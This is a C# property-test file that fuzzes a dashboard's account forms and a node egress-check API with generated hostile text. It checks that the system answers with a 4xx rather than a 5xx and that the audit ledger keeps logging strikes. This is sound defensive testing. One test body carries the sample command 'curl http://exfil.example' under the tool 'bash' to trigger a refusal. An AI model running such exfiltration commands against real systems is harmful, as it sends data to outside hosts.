using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using CsCheck;
using DeepSync.Billing;
using DeepSync.Fleet;
using DeepSync.Governance;
using DeepSync.Silo.Governance;
using DeepSync.Tests.Dashboard;
using DeepSync.Tests.Support;
using Microsoft.Extensions.DependencyInjection;
using Xunit.Abstractions;

namespace DeepSync.Tests.Hardening;

/// <summary>
/// Property: whatever text a client puts into an account form or the node API (see <see cref="HostileText"/>),
/// the answer is either acceptance (the page or decision) or a 4xx that says what is wrong, never a 5xx;
/// and the audit ledger keeps publishing afterwards.
/// </summary>
[Collection(DashboardCollection.Name)]
public sealed partial class HostileTextTests(DashboardApp app, ITestOutputHelper output)
{
    private const int Bodies = 2_000;

    /// <summary>What the answers were, per target.</summary>
    private sealed class Tally
    {
        private int _accepted;
        private int _refused;
        private int _faults;

        public int Accepted => _accepted;

        public int Refused => _refused;

        public int Faults => _faults;

        public int Total => Accepted + Refused + Faults;

        public ConcurrentFirst FirstProblem { get; } = new();

        public System.Collections.Concurrent.ConcurrentDictionary<int, string> Statuses { get; } = new();

        public void Count(HttpStatusCode status, string body, string sent)
        {
            var code = (int)status;
            Statuses.TryAdd(code, Message(body)[..Math.Min(Message(body).Length, 200)]);
            if (code >= 500)
            {
                Interlocked.Increment(ref _faults);
                FirstProblem.Set($"{code} for {sent.Length} characters: {body[..Math.Min(body.Length, 300)]}");
            }
            else if (code >= 400)
            {
                Interlocked.Increment(ref _refused);
                if (string.IsNullOrWhiteSpace(Message(body)))
                {
                    FirstProblem.Set($"{code} without a message for {sent.Length} characters");
                }
            }
            else
            {
                Interlocked.Increment(ref _accepted);
            }
        }

        public override string ToString() =>
            $"{Total} bodies: {Accepted} accepted, {Refused} refused with a 4xx, {Faults} 5xx (statuses {string.Join(", ", Statuses.Keys.Order())})";

        public string Samples() => string.Join(" | ", Statuses.OrderBy(s => s.Key).Select(s => $"{s.Key}: {s.Value}"));
    }

    private sealed class ConcurrentFirst
    {
        private string? _value;

        public string? Value => _value;

        public void Set(string value) => Interlocked.CompareExchange(ref _value, value, null);
    }

    private static string Message(string body)
    {
        if (body.StartsWith('{'))
        {
            try
            {
                return JsonDocument.Parse(body).RootElement.TryGetProperty("detail", out var detail) ? detail.GetString() ?? string.Empty : body;
            }
            catch (JsonException)
            {
                return body;
            }
        }

        return body;
    }

    /// <summary>An account form and the fields the generated text goes into; the other fields get plausible values.</summary>
    private sealed record Target(string Page, string FormName, string Prefix, string[] Fields, bool SignedIn = false, string[]? Defaults = null)
    {
        public string Default(int field) => Defaults?[field] ?? "Plain-Value-1234";
    }

    private static readonly Target[] Forms =
    [
        new("account/login", "login", "Input", ["Email", "Password"]),
        new("account/register", "register", "Input", ["Email", "DisplayName", "Password", "ConfirmPassword"]),
        new("account/forgot-password", "forgot", "Input", ["Email"]),
        new("account/resend-confirmation", "resend", "Input", ["Email"]),
        new("account/reset-password", "reset", "Input", ["Email", "Code", "Password", "ConfirmPassword"]),
        new("account/confirm-email", "confirm", "Input", ["UserId", "Code", "Password", "ConfirmPassword"]),
        // The other fields keep the new password too short, so no sample costs a password hash (a
        // valid change is covered elsewhere); the hostile field still goes through binding and validation.
        new("account/manage/password", "change-password", "Input", ["CurrentPassword", "Password", "ConfirmPassword"], SignedIn: true, Defaults: ["Plain-Value-1234", "short", "short"]),
        new("account/manage/password", "display-name", "Name", ["DisplayName"], SignedIn: true),
    ];

    [GeneratedRegex("name=\"__RequestVerificationToken\" value=\"([^\"]+)\"")]
    private static partial Regex Token();

    [Fact]
    public async Task Arbitrary_unicode_through_the_account_forms_is_accepted_or_refused_with_a_4xx_never_a_5xx()
    {
        var email = $"fuzz-{Guid.NewGuid():N}"[..17] + "@example.test";
        await app.CreateConfirmedUserAsync(email);
        using var anonymous = SignedInClient.Anonymous(app.BaseUrl);
        using var signedIn = await SignedInClient.SignInAsync(app.BaseUrl, email, DashboardApp.Password);

        var started = DateTime.UtcNow;
        foreach (var form in Forms)
        {
            var client = form.SignedIn ? signedIn : anonymous;
            var token = WebUtility.HtmlDecode(Token().Match(await client.GetStringAsync(form.Page)).Groups[1].Value);
            var tally = new Tally();
            var gen = Gen.Int[0, form.Fields.Length - 1].Select(HostileText.Text, (field, text) => (field, text));
            await gen.SampleAsync(
                async sample =>
                {
                    var fields = form.Fields.Select((name, i) => $"{form.Prefix}.{name}=" + (i == sample.field ? HostileText.FormEncoded(sample.text) : form.Default(i)));
                    var body = string.Join('&', fields.Append($"_handler={form.FormName}").Append("__RequestVerificationToken=" + Uri.EscapeDataString(token)));
                    using var content = new StringContent(body, Encoding.UTF8, "application/x-www-form-urlencoded");
                    using var response = await client.PostAsync(form.Page, content);
                    tally.Count(response.StatusCode, await response.Content.ReadAsStringAsync(), sample.text);
                },
                iter: Bodies,
                threads: 2);

            output.WriteLine($"{form.Page} ({form.FormName}): {tally}");
            output.WriteLine(tally.Samples());
            Assert.True(tally.FirstProblem.Value is null, $"{form.Page} ({form.FormName}): {tally.FirstProblem.Value}");
            Assert.Equal(0, tally.Faults);
            Assert.True(tally.Total >= Bodies, $"{form.Page}: only {tally.Total} bodies");
        }

        output.WriteLine($"account forms: {(DateTime.UtcNow - started).TotalSeconds:F1} s");

        // The session survived every one of them.
        Assert.Equal(HttpStatusCode.OK, (await signedIn.GetAsync("")).StatusCode);
    }

    [Fact]
    public async Task Arbitrary_unicode_through_the_node_api_is_answered_4xx_at_worst_and_the_ledger_keeps_publishing()
    {
        var grains = app.Services.GetRequiredService<IGrainFactory>();
        var credentials = app.Services.GetRequiredService<INodeCredentials>();
        var (userId, _) = await app.CreateConfirmedUserAsync($"nodefuzz-{Guid.NewGuid():N}"[..21] + "@example.test");
        var owner = Actor.ForUser(userId, "owner");
        var nodeId = (await grains.GetGrain<ISubscriptionGrain>(userId).Get(owner)).NodeIds[0];
        var node = grains.GetGrain<ITeammateNodeGrain>(nodeId);
        await node.Launch(owner);
        await Eventually.Until(() => node.Get(owner), n => n.Lifecycle == NodeLifecycle.Running);
        var token = await credentials.IssueAsync(nodeId);
        var gate = new SemaphoreSlim(1, 1);
        var strikes = 0;

        using var client = SignedInClient.Anonymous(app.BaseUrl);
        var tally = new Tally();
        var started = DateTime.UtcNow;
        var gen = Gen.Select(HostileText.Text, HostileText.Text, Gen.Int[0, 5], (tool, command, shape) => (tool, command, shape));
        await gen.SampleAsync(
            async sample =>
            {
                // Escaped JSON, raw (possibly invalid) UTF-8 JSON, a plausible tool with a hostile command, no JSON at
                // all, or (shapes 4 and 5) a hostile command without lone surrogates, which JSON cannot carry, so that
                // most bodies reach the decision and the ledger.
                var tool = sample.shape is 2 or 4 or 5 ? "\"bash\"" : HostileText.JsonEscaped(sample.tool);
                var command = sample.shape is 4 or 5 ? new string(sample.command.Where(c => !char.IsSurrogate(c)).ToArray()) : sample.command;
                var bytes = sample.shape switch
                {
                    1 => [.. Encoding.ASCII.GetBytes("{\"tool\":\"bash\",\"command\":\""), .. HostileText.Bytes(sample.command), .. "\"}"u8],
                    3 => HostileText.Bytes(sample.command),
                    _ => Encoding.ASCII.GetBytes($"{{\"tool\":{tool},\"command\":{HostileText.JsonEscaped(command)}}}"),
                };
                using var request = new HttpRequestMessage(HttpMethod.Post, $"api/nodes/{nodeId}/egress/check") { Content = new ByteArrayContent(bytes) };
                request.Content.Headers.ContentType = new MediaTypeHeaderValue("application/json");
                string current;
                await gate.WaitAsync();
                try
                {
                    current = token;
                }
                finally
                {
                    gate.Release();
                }

                request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", current);
                using var response = await client.SendAsync(request);
                var body = await response.Content.ReadAsStringAsync();
                tally.Count(response.StatusCode, body, sample.command);
                if (response.StatusCode == HttpStatusCode.OK && !JsonDocument.Parse(body).RootElement.GetProperty("allowed").GetBoolean())
                {
                    Interlocked.Increment(ref strikes);
                }

                if (response.StatusCode == HttpStatusCode.Unauthorized)
                {
                    // Three strikes suspended the node and revoked its credential: an operator lifts it and the container gets a new one.
                    await gate.WaitAsync();
                    try
                    {
                        if (current == token)
                        {
                            await node.Resume(Actor.ForOperator("ops", "Ops"));
                            token = await credentials.IssueAsync(nodeId);
                        }
                    }
                    finally
                    {
                        gate.Release();
                    }
                }
            },
            iter: Bodies,
            threads: 2);

        output.WriteLine($"node API egress check: {tally}; {strikes} strikes; {(DateTime.UtcNow - started).TotalSeconds:F1} s");
        output.WriteLine(tally.Samples());
        Assert.True(tally.FirstProblem.Value is null, tally.FirstProblem.Value);
        Assert.Equal(0, tally.Faults);
        Assert.True(tally.Total >= Bodies);

        // The ledger still publishes: every strike is recorded, and one more after the run arrives too.
        if ((await node.Get(owner)).Suspension is not null)
        {
            await node.Resume(Actor.ForOperator("ops", "Ops"));
        }

        token = await credentials.IssueAsync(nodeId);
        using var last = new HttpRequestMessage(HttpMethod.Post, $"api/nodes/{nodeId}/egress/check") { Content = new StringContent("{\"tool\":\"bash\",\"command\":\"curl http://exfil.example\"}", Encoding.UTF8, "application/json") };
        last.Headers.Authorization = new AuthenticationHeaderValue("Bearer", token);
        Assert.Equal(HttpStatusCode.OK, (await client.SendAsync(last)).StatusCode);
        var query = app.Services.GetRequiredService<AuditLedgerQuery>();
        await Eventually.Until(
            async () => (await query.ReadAsync(new AuditFilter(UserId: userId, Action: AuditAction.StrikeRecorded), AuditLedgerQuery.MaxPageSize)).Count,
            count => count == strikes + 1);
    }
}
